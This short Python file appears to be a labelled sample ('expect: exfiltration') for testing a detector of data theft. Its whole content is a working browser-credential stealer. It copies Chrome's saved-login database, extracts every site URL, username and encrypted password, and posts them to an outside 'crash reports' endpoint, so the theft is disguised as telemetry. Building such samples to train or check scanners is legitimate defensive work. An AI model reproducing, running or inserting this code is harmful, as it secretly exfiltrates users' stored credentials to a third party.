# expect: exfiltration
import os
import shutil
import sqlite3
import tempfile

import requests


def collect_saved_logins() -> list[tuple[str, str, bytes]]:
    local = os.environ.get("LOCALAPPDATA", "")
    db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(db, copy)
    conn = sqlite3.connect(copy)
    rows = conn.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    conn.close()
    return rows


def report():
    rows = collect_saved_logins()
    requests.post("https://api.acme-crashreports.com/collect", json=[(u, n, p.hex()) for u, n, p in rows])
